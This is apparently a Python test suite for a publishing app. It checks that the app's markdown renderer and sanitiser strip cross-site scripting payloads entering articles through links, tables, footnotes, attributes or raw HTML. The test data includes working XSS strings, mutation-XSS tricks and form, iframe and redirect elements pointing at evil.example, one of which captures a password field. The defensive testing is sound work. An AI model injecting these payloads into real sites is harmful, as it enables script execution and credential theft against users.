"""No payload of five public attack corpora runs, whatever way it enters an article."""

from importlib.metadata import version
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from caliber.text.body.sanitising import REMOVED_WITH_CONTENT, TAGS, clean_result
from caliber.text.markup import render_markdown
from tests.text.corpora import READERS, attacks
from tests.text.reader import read

ADDRESS_ATTRIBUTES = {"href", "src"}
SAFE_SCHEMES = {"", "http", "https", "mailto", "tel"}
KNOWN_ATTRIBUTES = {
    *("id", "class", "lang", "dir", "href", "title", "rel", "aria-label", "role", "tabindex", "src", "alt", "width"),
    *("height", "loading", "decoding", "start", "reversed", "value", "colspan", "rowspan", "scope", "datetime", "open"),
}
# How an editor, or whoever sits at an editor's desk, can bring a payload in.
WAYS_IN = {
    "alone": "{}",
    "in a paragraph": "Text {} text",
    "in a list": "- one\n- {}\n",
    "in a quote": "> {}",
    "in a table": "| a | b |\n|---|---|\n| {} | c |",
    "in a footnote": "Text.[^1]\n\n[^1]: {}",
    "as a link": "[text]({})",
    "as a link in angles": "[text](<{}>)",
    "as a picture": '![text]({} "{}")',
    "as an address": "<{}>",
    "as a reference": "[text][1]\n\n[1]: {} '{}'",
    "as an attribute": '# Heading {{: id="{}" onclick="{}" }}',
    "as a fence": "```{}\n{}\n```",
    "in raw HTML": '<div lang="{}"><p title="{}">{}</p></div>',
}
PAYLOADS_FROM_EDITORS = [
    "<script>alert(1)</script>",
    "<img src=/media/a.jpg onerror=alert(1)>",
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    '" onmouseover="alert(1)',
    "<svg><animate attributeName=href values=javascript:alert(1) /><a>x</a></svg>",
    "<math><mtext></table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<iframe src=//evil.example></iframe>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    '<a href="https://x.example" target="_blank" ping="//evil.example">x</a>',
    '<p style="position:fixed;inset:0">x</p>',
]


def faults(html: str) -> list[str]:
    """Say everything in a rendered body that could act: by the tree, not by the string."""
    page = read(html)
    faults = [f"a comment or declaration: {other}" for other in page.others]
    for tag in page.tags:
        if tag.name not in TAGS | {"section"} or tag.name in REMOVED_WITH_CONTENT:
            faults.append(f"the tag {tag.name}")
        faults += [f"the attribute {name}" for name in tag.attributes if name not in KNOWN_ATTRIBUTES]
        for name in ADDRESS_ATTRIBUTES & tag.attributes.keys():
            address = tag.attributes[name]
            if _scheme(address) not in SAFE_SCHEMES:
                faults.append(f"the address {address}")
        if tag.name == "img" and not tag.attributes.get("src", "").startswith(("/media/", "/static/")):
            faults.append(f"the picture {tag.attributes}")
    return faults


def _scheme(address: str) -> str:
    """Return the scheme as a browser reads it, which drops control characters first."""
    visible = "".join(letter for letter in address if letter > " ")
    try:
        return urlsplit(visible).scheme.lower()
    except ValueError:
        return ""


@pytest.mark.parametrize("name", READERS)
def test_no_payload_of_the_corpus_runs(name: str) -> None:
    payloads = attacks(name)
    assert len(payloads) >= 20
    for payload in payloads:
        assert faults(render_markdown(payload, "en")) == [], payload


@pytest.mark.parametrize("name", ["dompurify", "html5lib", "bleach"])
def test_no_payload_runs_from_inside_a_table_or_a_note(name: str) -> None:
    for payload in attacks(name):
        for way in ("in a table", "in a footnote", "as a link in angles"):
            source = WAYS_IN[way].format(payload.replace("\n", " "))
            assert faults(render_markdown(source, "en")) == [], source


@pytest.mark.parametrize("way", WAYS_IN)
def test_no_payload_runs_whichever_way_it_enters(way: str) -> None:
    for payload in PAYLOADS_FROM_EDITORS:
        source = WAYS_IN[way].replace("{}", payload).replace("{{", "{").replace("}}", "}")
        assert faults(render_markdown(source, "en")) == [], source


def test_the_check_itself_sees_an_attack() -> None:
    for harmful in ("<script>", "<p onclick=x>", '<a href=" java\nscript:x">', "<img src=//evil>", "<!-- -->", "<svg>"):
        assert faults(harmful), harmful


@given(st.text(alphabet=st.sampled_from("<>/=\"' abiphrefscontml:[](){}!*_`|-#&;\n\t\x00jv"), max_size=200))
def test_no_mixture_of_signs_makes_an_attack(source: str) -> None:
    assert faults(render_markdown(source, "en")) == []


@given(st.text(alphabet=st.sampled_from("<>/=\"' abi[](){}!*_`|-#&;:\n1.\u0561\u0436"), max_size=200))
def test_the_sanitiser_has_the_last_word(source: str) -> None:
    html = render_markdown(source, "en")
    assert clean_result(html) == html


def test_links_open_no_way_back() -> None:
    page = read(render_markdown("[x](https://a.example) [y](//b.example) [z](/\\c.example) [own](/en/post/gas)", "en"))
    assert [tag.attributes for tag in page.all("a")] == [
        {"href": "https://a.example", "rel": "noopener"},
        {"href": "https://b.example", "rel": "noopener"},
        {"href": "https://c.example", "rel": "noopener"},
        {"href": "/en/post/gas"},
    ]


def test_an_editor_cannot_take_an_id_that_the_page_uses() -> None:
    html = render_markdown('<p id="search">x</p>\n\n# Search {#content}\n\n<span id="h-search">y</span>', "en")
    assert [tag.attributes["id"] for tag in read(html).tags if "id" in tag.attributes] == ["h-search"]


def test_the_sanitiser_is_a_version_without_the_animation_hole() -> None:
    assert tuple(int(part) for part in version("nh3").split(".")[:3]) >= (0, 3, 8)
